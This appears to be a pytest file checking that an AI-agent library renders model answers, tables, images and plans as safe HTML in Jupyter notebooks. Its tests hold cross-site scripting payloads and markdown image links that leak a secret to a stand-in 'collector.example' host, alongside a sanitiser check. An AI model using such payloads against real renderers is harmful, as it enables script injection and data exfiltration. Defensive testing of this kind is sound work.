"""Answers and sessions in a notebook: tables, pictures, plans; nothing runs."""

import re
import sys
import time
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

import neuraxis
from neuraxis import Context, Options, Session, command
from neuraxis.assets.embed import COLUMNS
from neuraxis.assets.rows import ROWS
from neuraxis.session import html
from neuraxis.testing import ScriptedModel

EVIL = "<script>alert(1)</script>"
_TAGS = {
    "div", "p", "b", "code", "pre", "table", "thead", "tr", "th", "td", "img", "a",
    "strong", "em", "ul", "ol", "li", "h1", "tbody", "blockquote", "hr", "progress",
}  # fmt: skip


def _is_harmless(page: str) -> None:
    assert {name.lower() for name in re.findall(r"<\s*/?\s*([^\s>/]+)", page)} <= _TAGS
    assert not re.search(r"<[^>]*\son\w+\s*=", page)
    assert set(re.findall(r'src="([^:]*:[^;]*)', page)) <= {
        "data:image/png",
        "data:image/svg+xml",
    }
    assert not re.search(r'href="\s*(?:javascript|data|vbscript|file):', page, re.I)


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "![x](https://collector.example/?secret)",
        "![x][1]\n\n[1]: https://collector.example/?secret",
        "[x](javascript:alert(1)) [y](&#106;avascript:alert(1)) [z](data:text/html,x)",
        '<img src=x onerror="alert(1)">',
        "| <script> |\n|---|\n| <img src=x> |",
        '```"><script>\nx\n```',
        "<https://a.example/\"onmouseover='x'>",
    ],
)
def test_a_text_runs_and_fetches_nothing(text: str) -> None:
    """Markdown of a model or a page is text, also where it is written as HTML."""
    page = html.markdown(text)
    assert "<img" not in page
    _is_harmless(page)


def test_markdown_is_rendered() -> None:
    """Tables, too."""
    assert "<strong>best</strong>" in html.markdown("**best**")
    assert "<td>Turin</td>" in html.markdown("| city |\n|---|\n| Turin |")


@pytest.mark.parametrize("text", ["[" * 50_000, "*a " * 30_000, "> " * 40_000])
def test_a_long_text_takes_no_time(text: str) -> None:
    """What is nested without end ends."""
    assert len(html.markdown(text)) < 10 * len(text)


def _answer(tmp_path: Path) -> tuple[Session, Any]:
    polars = pytest.importorskip("polars")
    image = pytest.importorskip("PIL.Image")

    @command(effects="none")
    def table() -> polars.DataFrame:
        """A table."""
        return polars.DataFrame({EVIL: [EVIL, "x"], "n": [1234.5678, 2.0]})

    @command(effects="none")
    def picture(of: polars.DataFrame) -> image.Image:
        """A picture."""
        return image.new("RGB", (2000, 10), "red")

    plan = '[{"tool": "table"}, {"tool": "picture", "of": "{{ previous_result }}"}]'
    session = Session(
        ScriptedModel([plan, f"It is **done**. {EVIL}"]),
        plugins=[table, picture],
        workspace=tmp_path,
    )
    return session, session.run_sync(f"Draw it {EVIL}")


def test_a_long_table_says_how_much_of_it_is_shown() -> None:
    """Rows and columns that are left out are counted."""
    wide = [{f"c{n}": n for n in range(40)}] * 60
    page = html.render_object(wide)
    assert f"the first {ROWS} of 60 rows, the first {COLUMNS} of 40 columns" in page
    assert "2 rows, 1 column<" in html.render_object([{"a": 1}, {"a": 2}])


def test_an_answer_shows_its_objects_and_plan(tmp_path: Path) -> None:
    """Its text, its plan drawn, a table with short numbers, a picture made small."""
    session, answer = _answer(tmp_path)
    with session:
        page = answer._repr_html_()
        told = session._repr_html_()
    for shown in (page, told):
        _is_harmless(shown)
        assert "<strong>done</strong>" in shown
        assert "1,234.57" in shown
        assert "2 rows, 2 columns" in shown
        assert shown.count("data:image/png") == 1
    assert page.count("data:image/svg+xml") == 1
    assert "Draw it &lt;script&gt;" in told
    assert len(page) < 30_000


def test_dates_and_numbers_of_a_table_are_shown_as_such() -> None:
    """A date was its class; whole numbers stood on the left."""
    polars = pytest.importorskip("polars")
    frame = polars.DataFrame({"day": [date(2026, 1, 2)], "n": [7], "ok": [True]})
    shown = html.render_object(frame)
    assert "<td>2026-01-02</td>" in shown
    assert '<td style="text-align:right">7</td>' in shown
    assert "<td>true</td>" in shown


def test_a_cell_tells_what_a_run_does(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each command and how far it is; a session inside of it adds nothing."""
    cell = Cell()
    shell = SimpleNamespace(kernel=cell)
    monkeypatch.setitem(
        sys.modules, "IPython", SimpleNamespace(get_ipython=lambda: shell)
    )
    monkeypatch.setitem(sys.modules, "IPython.display", cell)
    assert Session(counts(), plugins=[count]).run_sync("Count").text == "Done."
    assert [text for text in cell.shown if "count &lt;1&gt;" in text] == [
        '<p>count &lt;1&gt; <progress value="0.5"></progress></p>'
    ]
    assert "<p>count … </p>" in cell.shown
    assert cell.shown[-1].startswith("<p>answered: 1 call, ")
    assert len([text for text in cell.shown if "answered" in text]) == 1
    for text in cell.shown:
        _is_harmless(text)


class Cell:
    """What a notebook shows."""

    def __init__(self) -> None:
        self.shown: list[str] = []
        self.HTML = str

    def display(self, text: str, display_id: bool) -> "Cell":
        return self

    def update(self, text: str) -> None:
        self.shown.append(text)


def counts() -> ScriptedModel:
    return ScriptedModel(['[{"tool": "count"}]', "Done."])


@command(effects="read")
def count(context: Context) -> int:
    """Count, with a session inside."""
    inner = Options(parent=context)
    Session(ScriptedModel(["inner"]), options=inner).run_sync("Inside")
    time.sleep(0.15)
    context.progress("count <1>", 0.5)
    return 1


NOTEBOOK = [
    """
import polars
from neuraxis import Session, command
from neuraxis.testing import ScriptedModel

@command(effects="none")
def sales() -> polars.DataFrame:
    "Sales of all cities."
    return polars.DataFrame({"city": ["Turin"], "sum": [841.6]})

model = ScriptedModel(['[{"tool": "sales"}]', "Here **they** are."])
session = Session(model, plugins=[sales])
""",
    "await session.run('Show the sales')",
    "session",
]


def test_a_notebook_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`await` works in a cell, and what a cell ends with is shown."""
    pytest.importorskip("polars")
    pytest.importorskip("ipykernel", reason="needs ipykernel")
    nbclient = pytest.importorskip("nbclient", reason="needs nbclient")
    from nbformat import v4

    source = str(Path(neuraxis.__file__).resolve().parents[1])
    monkeypatch.setenv("PYTHONPATH", source)
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
    book = v4.new_notebook(cells=[v4.new_code_cell(text) for text in NOTEBOOK])
    folder = {"metadata": {"path": str(tmp_path)}}
    nbclient.NotebookClient(book, timeout=50, resources=folder).execute()
    status, _ = book.cells[1].outputs
    assert "answered: 1 call, " in status.data["text/html"]
    _is_harmless(status.data["text/html"])
    for cell in book.cells[1:]:
        shown = cell.outputs[-1].data["text/html"]
        assert "<strong>they</strong>" in shown
        assert "<td>Turin</td>" in shown
        _is_harmless(shown)


def test_an_error_of_a_call_is_shown() -> None:
    """Beside the plan, in which it has a mark only; escaped."""

    @command(effects="read")
    def breaks() -> None:
        """Break."""
        raise neuraxis.CommandError(EVIL)

    with Session(ScriptedModel(['[{"tool": "breaks"}]', "ok"]), plugins=[breaks]) as it:
        page = it.run_sync("go")._repr_html_()
    assert "breaks failed: &lt;script&gt;" in page
    _is_harmless(page)


def test_a_short_result_that_json_cannot_hold_is_shown() -> None:
    """The page had only `<class 'dict'>` of it."""
    page = html.render_object({"mean": float("nan"), "note": "<b>weekly</b>"})
    assert "&quot;mean&quot;: &quot;nan&quot;" in page
    assert "&lt;b&gt;weekly" in page
    assert "class" not in page
